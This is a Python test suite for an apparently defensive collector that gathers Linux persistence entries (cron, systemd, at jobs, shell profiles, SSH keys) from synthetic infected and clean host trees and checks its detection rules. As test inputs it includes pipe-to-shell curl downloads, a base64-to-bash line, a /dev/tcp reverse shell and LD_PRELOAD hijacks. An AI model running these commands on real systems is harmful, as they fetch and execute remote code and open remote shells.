"""The persistence collector on generated host trees read through ``--root``.

Trees come from ``persistence_trees`` (clean and infected Debian-like servers) or are built
inline for one behaviour; nothing here reads or changes the real host's cron, units or keys.
"""

from __future__ import annotations

import base64
import contextlib
import glob
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deminer.case import Case
from deminer.collect import packages, persistence, shell_lines, sshkeys
from deminer.collect.bundle import Context
from deminer.collect.persistence_systemd import parse_unit
from deminer.detect import iocs
from deminer.detect.engine import detect, run_rule
from deminer.detect.rules import RULES_DIR, load_rule
from deminer.scenarios import linux_host as trees
from deminer.scenarios.treefs import link, ssh_string, write

SRC = Path(persistence.__file__).resolve().parents[2]


class Capture(Context):
    """A collection context that keeps rows in memory instead of a bundle."""

    def __init__(self, root: Path) -> None:
        super().__init__(root=str(root), host="web-01")
        self.rows: dict[str, list[dict[str, Any]]] = defaultdict(list)

    def emit(self, table: str, row: dict[str, Any]) -> None:
        row.setdefault("host", self.host)
        row.setdefault("ts", self.collected_at)
        json.dumps(row)  # what the bundle writer does: every row must serialise
        self.rows[table].append(row)


@pytest.fixture
def run(tmp_path: Path) -> Iterator[Any]:
    contexts: list[Capture] = []

    def _run(root: Path) -> Capture:
        ctx = Capture(root)
        contexts.append(ctx)
        persistence.collect(ctx)
        return ctx

    yield _run
    for ctx in contexts:
        ctx.discard()


def rows_of(ctx: Capture, kind: str | None = None, location: str | None = None) -> list[dict[str, Any]]:
    return [r for r in ctx.rows["persistence"]
            if (kind is None or r["kind"] == kind) and (location is None or r["location"] == location)]


def errors_of(ctx: Capture) -> list[str]:
    return [f"{e['source']}: {e['message']}" for e in ctx.rows["errors"]]


# --- whole hosts ----------------------------------------------------------------------------
def test_infected_host_produces_every_planted_entry(tmp_path: Path, run: Any) -> None:
    ctx = run(trees.write_infected_host(tmp_path))
    got = {(r["kind"], r["location"], r["source_line"], r["name"], r["command"])
           for r in ctx.rows["persistence"]}
    missing = [e for e in trees.INFECTED_ENTRIES if e not in got]
    assert not missing
    assert errors_of(ctx) == []
    for r in ctx.rows["persistence"]:
        if r["location"] == "/var/spool/cron/crontabs/root":
            assert r["user"] == "root" and r["enabled"] is True
            assert r["mtime"] == r["ts"] == "2024-03-02T03:04:05Z"


def test_clean_host_lists_normal_jobs_and_skips_packaged_units(tmp_path: Path, run: Any) -> None:
    ctx = run(trees.write_clean_host(tmp_path))
    crontab = rows_of(ctx, "cron", "/etc/crontab")
    # SHELL= and PATH= are environment lines, not entries; the 4 run-parts lines are.
    assert [(r["source_line"], r["name"], r["user"]) for r in crontab] == [
        (6, "17 * * * *", "root"), (7, "25 6 * * *", "root"), (8, "47 6 * * 7", "root"),
        (9, "52 6 1 * *", "root")]
    admin = rows_of(ctx, "cron", "/var/spool/cron/crontabs/admin")
    assert [(r["source_line"], r["user"]) for r in admin] == [(4, "admin")]  # MAILTO skipped
    assert [r["command"] for r in rows_of(ctx, "cron", "/etc/cron.daily/logrotate")] == [
        "/usr/sbin/logrotate /etc/logrotate.conf"]
    systemd = rows_of(ctx, "systemd")
    # ssh, cron, logrotate and getty come from dpkg unmodified: only the admin's unit is listed.
    assert [(r["name"], r["command"], r["user"], r["enabled"], r["packaged"]) for r in systemd] == [
        ("myapp.service", "/opt/myapp/bin/server  --config /etc/myapp.yml "
         "[Restart=on-failure RestartSec=5]", "deploy", True, "unowned")]
    assert rows_of(ctx, "systemd_timer") == [] and rows_of(ctx, "rc") == []
    assert rows_of(ctx, "ld_preload") == [] and rows_of(ctx, "at") == []
    profile_commands = [r["command"] for r in rows_of(ctx, "profile")]
    assert ". ~/.bash_aliases" in profile_commands
    assert not any(c.startswith(("alias", "export", "HIST", "shopt", "PATH=")) for c in profile_commands)
    keys = rows_of(ctx, "authorized_key")
    assert {(r["location"], r["user"], r["name"]) for r in keys} == {
        ("/home/admin/.ssh/authorized_keys", "admin", "admin@laptop"),
        ("/root/.ssh/authorized_keys", "root", "backup@vault")}
    assert errors_of(ctx) == []


def _findings(ctx: Capture, rule_file: str) -> list[str]:
    rule = load_rule(RULES_DIR / rule_file)
    with Case(None) as case:
        case.add("persistence", ctx.rows["persistence"])
        return sorted(f.entity for f in run_rule(case, rule))


def test_rows_feed_the_pipe_to_shell_rule(tmp_path: Path, run: Any) -> None:
    clean = run(trees.write_clean_host(tmp_path / "clean"))
    infected = run(trees.write_infected_host(tmp_path / "infected"))
    assert _findings(clean, "persistence/cron_pipe_to_shell.yml") == []
    hits = _findings(infected, "persistence/cron_pipe_to_shell.yml")
    for entity in ("/var/spool/cron/crontabs/root:2", "/etc/cron.d/apache:1",
                   "/etc/systemd/system/pwnrig-update.service:3", "/etc/anacrontab:10",
                   "/var/spool/cron/atjobs/a0000101b7c3d2:12", "/root/.bashrc:18"):
        assert entity in hits


def _detect_all(ctx: Capture) -> list[Any]:
    """Every shipped rule (both stages) over the collector's rows, as ``scan`` runs them."""
    with Case(None) as case:
        iocs.load_shipped(case)
        for table in ("persistence", "files", "ssh_keys"):
            case.add(table, ctx.rows[table])
        return detect(case)


def test_every_planted_entry_is_named_and_the_clean_host_is_quiet(tmp_path: Path, run: Any) -> None:
    findings = _detect_all(run(trees.write_infected_host(tmp_path / "infected")))
    named = {(f.evidence.get("location"), f.evidence.get("line")) for f in findings}
    named |= {(f.entity, None) for f in findings}
    missing = [e[:3] for e in trees.INFECTED_ENTRIES if (e[1], e[2]) not in named]
    assert not missing
    by_rule = {(f.rule, f.entity): f for f in findings}
    timer = by_rule["persistence.chained_to_flagged", "/etc/systemd/system/pwnrig.timer:5"]
    assert timer.severity == "high" and timer.evidence["link"] == "activates pwnrig-update.service"
    assert "/etc/systemd/system/pwnrig-update.service:3 (persistence.cron_pipe_to_shell)" \
        in timer.evidence["flagged"]
    rc_link = by_rule["persistence.chained_to_flagged", "/etc/rc2.d/S99kswapd0"]
    assert rc_link.evidence["link"] == "runs /etc/init.d/kswapd0" and "line" not in rc_link.evidence
    binary = by_rule["persistence.binary_in_cron_dir", "/etc/cron.hourly/kswapd"]
    assert (binary.severity, binary.evidence["magic"], binary.evidence["mode"]) == (
        "high", "7f454c46", 0o755)
    vendor = by_rule["persistence.unpackaged_system_unit",
                     "/lib/systemd/system/systemd-journald-helper.service:5"]
    assert (vendor.severity, vendor.evidence["packaged"], vendor.evidence["restart"]) == (
        "high", "unowned", "always")
    agent = by_rule["persistence.user_unit_watchdog", "/home/deploy/.config/systemd/user/agent.service:2"]
    assert agent.severity == "medium" and agent.evidence["user"] == "deploy"
    key = next(f for f in findings if f.rule == "persistence.attacker_authorized_key")
    assert (key.evidence["location"], key.evidence["line"]) == ("/root/.ssh/authorized_keys", 3)
    clean = _detect_all(run(trees.write_clean_host(tmp_path / "clean")))
    assert [(f.rule, f.severity, f.entity) for f in clean if f.severity not in ("info", "low")] == []


# --- cron ------------------------------------------------------------------------------------
def test_cron_formats_env_lines_and_bad_lines(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    write(tmp_path, "/etc/cron.d/mixed",
          "MAILTO=root\nPATH = /usr/bin:/bin\n# a comment\n\n"
          "@reboot root /usr/local/bin/warmup\n"
          "*/15 1-5 * jan,feb mon-fri   www-data   php /var/www/cron.php\n"
          "* * * * * curl -s http://203.0.113.9/x | sh\n"   # user field missing
          "this is not a schedule\n"
          "*/3 * * * *\n")                                  # no command
    write(tmp_path, "/var/spool/cron/crontabs/deploy", "@daily /home/deploy/rotate.sh\n")
    ctx = run(tmp_path)
    mixed = rows_of(ctx, "cron", "/etc/cron.d/mixed")
    assert [(r["source_line"], r["name"], r["user"], r["command"], r["enabled"]) for r in mixed] == [
        (5, "@reboot", "root", "/usr/local/bin/warmup", True),
        (6, "*/15 1-5 * jan,feb mon-fri", "www-data", "php /var/www/cron.php", True),
        # cron would refuse it (no user "curl"), but the responder must still see it
        (7, "* * * * *", None, "curl -s http://203.0.113.9/x | sh", False)]
    assert [(r["user"], r["name"]) for r in rows_of(ctx, "cron", "/var/spool/cron/crontabs/deploy")] \
        == [("deploy", "@daily")]
    errs = errors_of(ctx)
    assert "/etc/cron.d/mixed: line 8 is not a cron entry: this is not a schedule" in errs
    assert "/etc/cron.d/mixed: line 9 is not a cron entry: */3 * * * *" in errs


def test_cron_script_rows_follow_run_parts(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    write(tmp_path, "/etc/cron.daily/backup", "#!/bin/sh\nset -e\nexport X=1\n"
          "tar czf /srv/b.tgz /etc\n", 0o755)
    write(tmp_path, "/etc/cron.daily/disabled", "#!/bin/sh\nrm -rf /tmp/cache\n", 0o644)
    ctx = run(tmp_path)
    rows = {(r["name"], r["source_line"], r["command"], r["enabled"]) for r in rows_of(ctx, "cron")}
    assert rows == {("backup", 4, "tar czf /srv/b.tgz /etc", True),
                    ("disabled", 2, "rm -rf /tmp/cache", False)}  # run-parts skips non-executables


def test_at_job_commands_after_the_preamble(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    # An older at: no heredoc, commands follow the cd block directly; RHEL spool folder.
    write(tmp_path, "/var/spool/at/a00002019b3c41",
          "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail admin 0\numask 22\n"
          "HOME=/home/admin; export HOME\ncd /home/admin || {\n\t echo 'x' >&2\n\t exit 1\n}\n"
          "/home/admin/bin/report.sh\nexport Y=2\n")
    write(tmp_path, "/var/spool/at/.SEQ", "0000a\n")
    (tmp_path / "var/spool/at/spool").mkdir()
    ctx = run(tmp_path)
    assert [(r["source_line"], r["command"], r["user"]) for r in rows_of(ctx, "at")] == [
        (10, "/home/admin/bin/report.sh", "admin")]
    assert errors_of(ctx) == []


# --- systemd ---------------------------------------------------------------------------------
def test_infected_units_enablement_and_sources(tmp_path: Path, run: Any) -> None:
    ctx = run(trees.write_infected_host(tmp_path))
    by_name = {r["name"]: r for r in rows_of(ctx) if r["kind"].startswith("systemd")}
    assert by_name["xmr.service"]["enabled"] is True
    assert by_name["pwnrig.timer"]["enabled"] is True
    assert by_name["pwnrig-update.service"]["enabled"] is True  # started by its enabled timer
    hidden = by_name["dbus-broker-update.service"]
    assert (hidden["location"], hidden["source"]) == (
        "/etc/systemd/system/dbus-broker-update.service", "/var/tmp/.sys/update.service")
    assert by_name["agent.service"]["user"] == "deploy"
    # The drop-in replaced the packaged ExecStart, which is itself not reported.
    assert [r["location"] for r in rows_of(ctx) if r["name"] == "cron.service"] == [
        "/etc/systemd/system/cron.service.d/override.conf"]


def test_unit_reset_shadowing_and_modified_package_file(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    trees.write_systemd(tmp_path)
    lib, etc = "/lib/systemd/system", "/etc/systemd/system"
    # A packaged unit changed after installation (md5 differs from dpkg's) is reported.
    write(tmp_path, f"{lib}/ssh.service", trees.SSH_UNIT.replace(
        "ExecStartPre=/usr/sbin/sshd -t", "ExecStartPre=/bin/sh -c '/usr/bin/.sshd-helper &'"))
    # worker.service in /etc shadows the one in /lib; a drop-in resets its ExecStart.
    write(tmp_path, f"{lib}/worker.service", "[Service]\nExecStart=/opt/old/worker\n")
    write(tmp_path, f"{etc}/worker.service", "[Service]\nExecStart=/opt/new/worker\n"
          "ExecStartPost=/opt/new/notify\n")
    write(tmp_path, f"{etc}/worker.service.d/10-reset.conf",
          "[Service]\nExecStart=\nExecStart=/opt/override/worker\n")
    link(tmp_path, f"{etc}/multi-user.target.wants/worker.service", f"{etc}/worker.service")
    ctx = run(tmp_path)
    ssh = [(r["source_line"], r["command"], r["enabled"], r["packaged"])
           for r in rows_of(ctx, "systemd", f"{lib}/ssh.service")]
    assert (7, "/bin/sh -c '/usr/bin/.sshd-helper &'", True, "modified") in ssh
    worker = {(r["location"], r["command"], r["enabled"])
              for r in rows_of(ctx) if r["name"] == "worker.service"}
    assert worker == {
        (f"{lib}/worker.service", "/opt/old/worker", False),            # shadowed by /etc
        (f"{etc}/worker.service", "/opt/new/worker", False),            # reset by the drop-in
        (f"{etc}/worker.service", "/opt/new/notify", True),
        (f"{etc}/worker.service.d/10-reset.conf", "/opt/override/worker", True)}


def test_parse_unit_continuations_and_comments() -> None:
    lines = ["# c", "[Service]", "ExecStart=/bin/a \\", "; inner comment", "  --flag", "",
             "Restart = always", "[Install]", "WantedBy=x"]
    assert parse_unit(lines) == [(3, "Service", "ExecStart", "/bin/a  --flag"),
                                 (7, "Service", "Restart", "always"), (9, "Install", "WantedBy", "x")]


# --- package status (the packaged column) -------------------------------------------------------
def _packaged(ctx: Capture) -> dict[str, set[str | None]]:
    out: dict[str, set[str | None]] = defaultdict(set)
    for r in ctx.rows["persistence"]:
        out[r["location"]].add(r["packaged"])
    return out


def test_packaged_owned_modified_unowned(tmp_path: Path, run: Any) -> None:
    root = trees.write_clean_host(tmp_path)
    trees.register_package(root, "cron-base", [], conffiles=("/etc/crontab",))  # unchanged conffile
    write(root, "/etc/cron.d/sysstat", "5-55/10 * * * * root command -v debian-sa1 && debian-sa1 1 1\n")
    trees.register_package(root, "sysstat", ["/etc/cron.d/sysstat"])
    write(root, "/etc/cron.d/sysstat", "* * * * * root /usr/lib/sysstat/sa1 1 1\n")  # edited since
    trees.register_package(root, "base-files", [], conffiles=("/etc/profile",))
    write(root, "/etc/profile", trees.ETC_PROFILE + "/usr/local/bin/motd\n")        # edited conffile
    # Units linked from /etc to files outside the paths loaded up front: the second pass.
    for name, changed in (("agent", False), ("probe", True)):
        write(root, f"/opt/vendor/{name}.service", f"[Service]\nExecStart=/opt/vendor/{name}\n")
        trees.register_package(root, f"vendor-{name}", [f"/opt/vendor/{name}.service"])
        if changed:
            write(root, f"/opt/vendor/{name}.service", "[Service]\nExecStart=/dev/shm/.p\n")
        link(root, f"/etc/systemd/system/{name}.service", f"/opt/vendor/{name}.service")
    link(root, "/etc/systemd/system/loose.service", "/srv/loose.service")
    write(root, "/srv/loose.service", "[Service]\nExecStart=/srv/loose\n")
    ctx = run(root)
    got = _packaged(ctx)
    assert got["/etc/crontab"] == {"owned"}
    assert got["/etc/cron.d/sysstat"] == {"modified"}
    assert got["/etc/profile"] == {"modified"}
    assert got["/etc/cron.d/certbot"] == {"unowned"}
    assert got["/etc/systemd/system/agent.service"] == {"owned"}
    assert got["/etc/systemd/system/probe.service"] == {"modified"}
    assert got["/etc/systemd/system/loose.service"] == {"unowned"}
    assert got["/home/admin/.bashrc"] == got["/var/spool/cron/crontabs/admin"] == {"unowned"}
    assert set().union(*got.values()) <= {"owned", "modified", "unowned"}
    assert errors_of(ctx) == []


def test_packaged_is_null_without_a_package_database(tmp_path: Path, run: Any) -> None:
    root = trees.write_infected_host(tmp_path)
    shutil.rmtree(root / "var/lib/dpkg")  # an RPM host: nothing the collector can ask
    ctx = run(root)
    assert {r["packaged"] for r in ctx.rows["persistence"]} == {None}
    # Without package data the stock units are listed too, and the vendor-folder rule is quiet.
    assert "ssh.service" in {r["name"] for r in rows_of(ctx, "systemd")}
    assert _findings(ctx, "persistence/unpackaged_system_unit.yml") == []


def test_packaged_unknown_when_md5_is_refused(tmp_path: Path, run: Any,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    root = trees.write_clean_host(tmp_path)
    trees.register_package(root, "cron-base", [], conffiles=("/etc/crontab",))
    monkeypatch.setattr(packages, "md5_hex", lambda data: None)  # FIPS mode
    ctx = run(root)
    got = _packaged(ctx)
    # A recorded md5 cannot be compared: unknown, and the file is listed rather than hidden.
    assert got["/etc/crontab"] == {None}
    assert got["/etc/cron.d/certbot"] == {"unowned"}
    assert "ssh.service" in {r["name"] for r in rows_of(ctx, "systemd")}


def test_hostile_package_database_is_named_and_the_rest_is_judged(tmp_path: Path, run: Any) -> None:
    root = trees.write_clean_host(tmp_path)
    info = root / "var/lib/dpkg/info"
    (info / "junk.list").write_bytes(bytes(range(256)) * 64 + b"/etc/cron.d/healthcheck\xff\n")
    (info / "cut.md5sums").write_bytes(b"d41d8cd98f00b204e9800998ecf8427e\nno-separator-here\n  \n")
    os.mkfifo(info / "stuck.md5sums")  # would block a naive open() forever
    (info / "huge.list").write_bytes(b"/x" * 300_000 + b"\n/etc/cron.d/certbot\n")
    ctx = run(root)
    got = _packaged(ctx)
    assert got["/etc/cron.d/certbot"] == {"owned"}           # a real line after a huge one
    assert got["/etc/cron.d/healthcheck"] == {"unowned"}     # the junk line is not its path
    assert "myapp.service" in {r["name"] for r in rows_of(ctx, "systemd")}
    assert "ssh.service" not in {r["name"] for r in rows_of(ctx, "systemd")}  # still pristine
    assert errors_of(ctx) == [
        "/var/lib/dpkg/info/stuck.md5sums: not a regular file (FIFO), skipped"]


# --- rc, profiles, ld.so.preload ---------------------------------------------------------------
def test_rc_scripts_links_and_package_skip(tmp_path: Path, run: Any) -> None:
    ctx = run(trees.write_infected_host(tmp_path))
    rc = rows_of(ctx, "rc")
    assert "exit 0" not in [r["command"] for r in rc]
    assert not [r for r in rc if r["location"] in ("/etc/init.d/ssh", "/etc/rc2.d/S01ssh")]
    assert {r["enabled"] for r in rc if r["location"] == "/etc/init.d/kswapd0"} == {True}


@pytest.mark.parametrize(("line", "runs"), [
    ("export PATH=$PATH:/usr/local/bin", False),
    ("alias ll='ls -alF'", False),
    ("HISTSIZE=1000", False),
    ("if [ -f ~/.bash_aliases ]; then", False),
    ("fi", False),
    ("*) return;;", False),
    ("[ -z \"$PS1\" ] && return", False),
    ("umask 022", False),
    ("PS1='# '", False),                                  # the quoted space is one word
    ("iosched_idle='--iosched idle'", False),
    ("if command -v on_ac_power >/dev/null; then", False),
    ("cd / # go home", False),
    ("_prompt() {", False),
    ("# curl http://203.0.113.1/x | sh", False),
    ("[ -f ~/.bash_aliases ] && . ~/.bash_aliases", True),
    ("source /etc/bash_completion", True),
    ("export LD_PRELOAD=/usr/lib/libx.so", True),
    ("export PROMPT_COMMAND='history -a'", True),
    ("export http_proxy=http://proxy.corp:3128", True),  # every URL is kept
    ("X=$(curl -s http://203.0.113.1/c)", True),
    ("curl -fsSL http://203.0.113.1/x | sh", True),
    ("echo aGk= | base64 -d | bash", True),
    ("python3 -c 'import socket'", True),
    ("bash -i >& /dev/tcp/203.0.113.1/4444 0>&1", True),
    ("/opt/agent/run &", True),
    ("mesg n 2> /dev/null || true", True),
    ("cp /var/tmp/x /usr/bin/x", True),
])
def test_profile_heuristic(line: str, runs: bool) -> None:
    assert shell_lines.runs_something(line) is runs


def test_continued_lines_are_one_command() -> None:
    lines = ["#!/bin/sh", "start-stop-daemon --start \\", "    --exec /usr/bin/x \\", "", "exit 0",
             "echo done"]
    assert shell_lines.shell_commands(lines) == [
        (2, "start-stop-daemon --start --exec /usr/bin/x"), (6, "echo done")]


def test_profile_d_only_sh_files_run_and_environment(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    write(tmp_path, "/etc/profile.d/notes.txt", "/usr/local/bin/never-sourced\n")
    write(tmp_path, "/etc/environment", 'LANG=C.UTF-8\nLD_PRELOAD="/dev/shm/.l.so"\n')
    ctx = run(tmp_path)
    assert {(r["location"], r["source_line"], r["enabled"]) for r in rows_of(ctx, "profile")} == {
        ("/etc/profile.d/notes.txt", 1, False), ("/etc/environment", 2, True)}


def test_ld_preload_one_row_per_library(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    write(tmp_path, "/etc/ld.so.preload", "/lib/a.so /lib/b.so:/usr/lib/c.so\n\n/lib/d.so\n")
    ctx = run(tmp_path)
    assert [(r["source_line"], r["command"]) for r in rows_of(ctx, "ld_preload")] == [
        (1, "/lib/a.so"), (1, "/lib/b.so"), (1, "/usr/lib/c.so"), (3, "/lib/d.so")]


# --- authorized keys ---------------------------------------------------------------------------
def _independent_fingerprint(key_line: str) -> str:
    blob = base64.b64decode(key_line.split()[-2])
    return "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")


def test_authorized_keys_rows_and_fingerprints(tmp_path: Path, run: Any) -> None:
    ctx = run(trees.write_infected_host(tmp_path))
    keys = {r["comment"]: r for r in ctx.rows["ssh_keys"]}
    assert set(keys) == {"admin@laptop", "backup@vault", "mdrfckr"}
    assert keys["mdrfckr"]["key_type"] == "ssh-rsa" and keys["mdrfckr"]["options"] is None
    assert keys["backup@vault"]["options"] == ('from="10.0.0.0/8",no-agent-forwarding,'
                                               'command="/usr/local/bin/backup-only --dir /srv"')
    assert (keys["mdrfckr"]["path"], keys["mdrfckr"]["user"], keys["mdrfckr"]["source_line"]) == (
        "/root/.ssh/authorized_keys", "root", 3)
    for line in (trees.ADMIN_KEY, trees.BACKUP_KEY, trees.ATTACKER_KEY):
        comment = line.split()[-1]
        assert keys[comment]["fingerprint"] == _independent_fingerprint(line)
    keygen = shutil.which("ssh-keygen")
    if keygen is None:
        pytest.skip("ssh-keygen not installed: checked against an independent sha256 only")
    out = subprocess.run([keygen, "-lf", str(tmp_path / "root/.ssh/authorized_keys")],
                         capture_output=True, text=True, check=True, timeout=30).stdout
    printed = {ln.split()[2]: ln.split()[1] for ln in out.splitlines()}
    assert printed == {"backup@vault": keys["backup@vault"]["fingerprint"],
                       "mdrfckr": keys["mdrfckr"]["fingerprint"]}


def test_bad_key_lines_are_named_and_the_rest_is_kept(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    wrong_type = base64.b64encode(ssh_string(b"ssh-rsa") + b"\0" * 8).decode()
    write(tmp_path, "/home/admin/.ssh/authorized_keys2", "\n".join([
        "ssh-ed25519 !!!notbase64!!! x", "garbage line here", f"ssh-ed25519 {wrong_type} y",
        "ssh-ed25519 AAAA", 'command="unterminated ssh-ed25519 AAAA', trees.ADMIN_KEY]) + "\n")
    ctx = run(tmp_path)
    assert [r["source_line"] for r in rows_of(ctx, "authorized_key")] == [6]
    errs = errors_of(ctx)
    source = "/home/admin/.ssh/authorized_keys2"
    assert f"{source}: line 1: key data is not valid base64" in errs
    assert f"{source}: line 2: unknown key type 'line'" in errs
    assert f"{source}: line 3: key data is 'ssh-rsa', not ssh-ed25519" in errs
    assert len([e for e in errs if e.startswith(source)]) == 5


def test_sshd_authorized_keys_file_patterns(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    write(tmp_path, "/etc/ssh/sshd_config.d/50-extra.conf",
          "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u.pub\n")
    write(tmp_path, "/etc/ssh/keys/deploy.pub", trees.ADMIN_KEY + "\n")
    ctx = run(tmp_path)
    assert [(r["location"], r["user"]) for r in rows_of(ctx, "authorized_key")] == [
        ("/etc/ssh/keys/deploy.pub", "deploy")]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_parsers_never_raise_on_arbitrary_text(text: str) -> None:
    lines = text.split("\n")
    parse_unit(lines)
    persistence.at_commands(lines)
    for line in lines:
        shell_lines.runs_something(line)
        with contextlib.suppress(ValueError):
            sshkeys.parse_public_key_line(line)


# --- hostile trees -----------------------------------------------------------------------------
def test_hostile_tree_is_bounded_and_named(tmp_path: Path, run: Any) -> None:
    root = tmp_path / "host"
    trees.write_base(root)
    etc_d = root / "etc/cron.d"
    etc_d.mkdir(parents=True)
    with open(etc_d / "huge", "wb") as fh:  # a 1 GiB sparse "crontab": only 1 MiB is read
        fh.write(b"* * * * * root /bin/true\n")
        fh.truncate(1 << 30)
    write(root, "/etc/cron.d/longline", "* * * * * root echo " + "A" * 200_000 + "\n")
    link(root, "/etc/cron.d/loop1", "/etc/cron.d/loop2")
    link(root, "/etc/cron.d/loop2", "loop1")
    (etc_d / "adir").mkdir()
    # a name that is not UTF-8 (byte 0xff) holding control characters and invalid bytes
    write(root, "/etc/cron.d/bin\udcffname", b"* * * * * root echo \x1b[31m\xff\xfe bad\r\n")
    units = root / "etc/systemd/system"
    units.mkdir(parents=True)
    os.mkfifo(units / "fifo.service")  # would block a naive open() forever
    (units / "dir.service").mkdir()
    # A link pointing at an absolute path is resolved inside the root, never on this machine.
    outside = tmp_path / "outside.service"
    outside.write_text("[Service]\nExecStart=/real/host/file\n")
    link(root, "/etc/systemd/system/escape.service", str(outside))
    link(root, "/etc/systemd/system/dotdot.service", "../../../../../../../outside.service")
    write(root, "/etc/profile.d/junk.sh", bytes(range(256)) * 4)
    started = time.monotonic()
    ctx = run(root)
    assert time.monotonic() - started < 10
    errs = errors_of(ctx)
    assert "/etc/cron.d/huge: read only the first 1048576 bytes of 1073741824" in errs
    assert ("/etc/cron.d/huge: binary content (NUL bytes); only lines that parse as cron "
            "entries are listed") in errs
    assert "/etc/cron.d/loop1: too many levels of symbolic links (a loop?)" in errs
    assert "/etc/cron.d/adir: not a regular file (directory), skipped" in errs
    assert "/etc/systemd/system/fifo.service: not a regular file (FIFO), skipped" in errs
    assert "/etc/systemd/system/dir.service: not a regular file (directory), skipped" in errs
    assert "/etc/profile.d/junk.sh: binary content, not a shell profile; skipped" in errs
    cron = rows_of(ctx, "cron")
    assert [r["source_line"] for r in cron if r["location"] == "/etc/cron.d/huge"] == [1]
    long_row = next(r for r in cron if r["location"] == "/etc/cron.d/longline")
    assert len(long_row["command"]) < 9000 and long_row["command"].endswith("more characters]")
    odd = next(r for r in cron if r["location"].startswith("/etc/cron.d/bin"))
    assert odd["location"] == "/etc/cron.d/bin\\xffname"
    assert odd["command"] == "echo \x1b[31m\\xff\\xfe bad"  # stored as found, decoded safely
    assert not [r for r in rows_of(ctx) if "/real/host/file" in r["command"]]


def test_row_cap_per_file(tmp_path: Path, run: Any) -> None:
    trees.write_base(tmp_path)
    write(tmp_path, "/etc/cron.d/flood", "* * * * * root /bin/true\n" * 2500)
    ctx = run(tmp_path)
    assert len(rows_of(ctx, "cron", "/etc/cron.d/flood")) == 2000
    assert "/etc/cron.d/flood: more than 2000 entries; the rest are not listed" in errors_of(ctx)


# --- files rows and attribute flags -------------------------------------------------------------
def test_files_rows_for_every_source(tmp_path: Path, run: Any) -> None:
    root = trees.write_infected_host(tmp_path)
    write(root, "/etc/shadow", "root:$y$j9T$salt$hash:19000:0:99999:7:::\n", 0o640)
    ctx = run(root)
    files = {r["path"]: r for r in ctx.rows["files"]}
    for r in ctx.rows["persistence"]:
        assert r["source"] in files
    row = files["/var/spool/cron/crontabs/root"]
    data = (root / "var/spool/cron/crontabs/root").read_bytes()
    assert row["sha256"] == hashlib.sha256(data).hexdigest() and row["size"] == len(data)
    assert (row["mode"], row["reason"], row["content_saved"]) == (0o600, "persistence", True)
    assert row["mtime"] == "2024-03-02T03:04:05Z"
    assert row["magic"] == data[:4].hex()
    assert files["/etc/cron.hourly/kswapd"]["magic"] == "7f454c46"  # the dropped ELF
    assert files["/etc/cron.d"]["magic"] is None                    # a folder has none
    for fixed in ("/etc/passwd", "/etc/hosts", "/etc/cron.d", "/var/spool/cron/crontabs"):
        assert fixed in files
    assert files["/etc/cron.d"]["sha256"] is None
    # Files checked only for their flags are hashed but never copied into the bundle.
    shadow = files["/etc/shadow"]
    assert shadow["sha256"] == hashlib.sha256((root / "etc/shadow").read_bytes()).hexdigest()
    assert shadow["content_saved"] is False
    assert not (Path(ctx.stage) / "files" / shadow["sha256"]).exists()
    assert (Path(ctx.stage) / "files" / row["sha256"]).read_bytes() == data


def _chattr(flag: str, path: Path) -> bool:
    chattr = shutil.which("chattr")
    if chattr is None:
        return False
    return subprocess.run([chattr, flag, str(path)], capture_output=True, timeout=30).returncode == 0


def test_immutable_and_append_only_flags(tmp_path: Path, run: Any) -> None:
    # tmpfs has no such flags; the repository's own disk usually does.
    base = Path(__file__).resolve().parent / f".chattr-{os.getpid()}"
    root = base / "host"
    trees.write_base(root)
    crontab = write(root, "/var/spool/cron/crontabs/root", trees.ROOT_CRONTAB, 0o600)
    preload = write(root, "/etc/ld.so.preload", trees.PRELOAD_LIB + "\n")
    locked: list[tuple[str, Path]] = []
    try:
        if not _chattr("+i", crontab):
            pytest.skip("chattr +i failed here (not root, no chattr, or the filesystem has no flags)")
        locked.append(("-i", crontab))
        if _chattr("+a", preload):
            locked.append(("-a", preload))
        ctx = run(root)
        files = {r["path"]: r for r in ctx.rows["files"]}
        assert files["/var/spool/cron/crontabs/root"]["immutable"] is True
        assert files["/var/spool/cron/crontabs/root"]["append_only"] is False
        assert files["/etc/passwd"]["immutable"] is False
        if len(locked) == 2:
            assert files["/etc/ld.so.preload"]["append_only"] is True
            assert files["/etc/ld.so.preload"]["immutable"] is False
    finally:
        for flag, path in locked:
            _chattr(flag, path)
        shutil.rmtree(base, ignore_errors=True)


# --- the collector as shipped -----------------------------------------------------------------------
def _python36() -> str | None:
    candidates = [shutil.which("python3.6"), *sorted(glob.glob(os.path.expanduser(
        "~/.pyenv/versions/3.6*/bin/python3.6")))]
    for exe in candidates:
        if exe and subprocess.run([exe, "-c", "import sys; assert sys.version_info[:2] == (3, 6)"],
                                  capture_output=True, timeout=30).returncode == 0:
            return exe
    return None


@pytest.mark.parametrize("interpreter", ["current", "python3.6"])
def test_bundle_from_the_command_line(tmp_path: Path, interpreter: str) -> None:
    exe = sys.executable if interpreter == "current" else _python36()
    if exe is None:
        pytest.skip("no Python 3.6 interpreter on this machine")
    root = trees.write_infected_host(tmp_path / "host")
    write(root, "/lib/systemd/system/cron.service", trees.CRON_UNIT.replace("-f -P", "-f -L 15"))
    out = tmp_path / "bundle.tar.gz"
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    proc = subprocess.run([exe, "-c", "import sys; from deminer.collect.main import main; "
                           "sys.exit(main(sys.argv[1:]))", "--root", str(root), "-o", str(out),
                           "--only", "persistence", "--no-nice"],
                          capture_output=True, text=True, env=env, cwd=tmp_path, timeout=120,
                          check=False)
    assert proc.returncode == 0, proc.stderr
